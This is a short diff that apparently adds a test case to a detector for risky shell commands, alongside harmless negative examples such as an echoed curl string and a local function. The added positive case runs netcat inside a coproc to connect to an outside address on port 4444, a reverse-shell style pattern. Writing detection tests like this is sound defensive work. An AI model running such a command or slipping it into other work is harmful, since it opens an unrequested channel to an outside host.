@@ -34,3 +34,5 @@ echo "curl https://example.com"
 #@ neg a function named fetch_data
 fetch_data() { cat data.txt; }
 fetch_data
+#@ pos nc run by a named coproc
+coproc N { nc 203.0.113.5 4444; }
